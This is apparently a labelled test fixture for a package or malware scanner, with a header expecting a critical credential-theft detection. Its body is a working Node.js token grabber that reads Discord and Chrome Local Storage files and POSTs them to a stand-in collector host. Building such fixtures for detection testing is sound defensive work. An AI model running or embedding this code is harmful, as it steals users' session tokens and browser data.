#! path=lib/setup.js flags=install expect=L2-CRED-001:CRITICAL max=any
// Written for this test: a token grabber reading browser and chat-client storage.
const fs = require('fs'), path = require('path'), fetch = require('node-fetch');
const roots = [process.env.APPDATA + '\\discord', process.env.LOCALAPPDATA + '\\Google\\Chrome\\User Data\\Default'];
for (const r of roots) {
  const dir = path.join(r, 'Local Storage/leveldb');
  for (const f of fs.readdirSync(dir)) send(fs.readFileSync(path.join(dir, f), 'latin1'));
}
function send(t) { return fetch('https://collector.example.com/t', { method: 'POST', body: t }); }
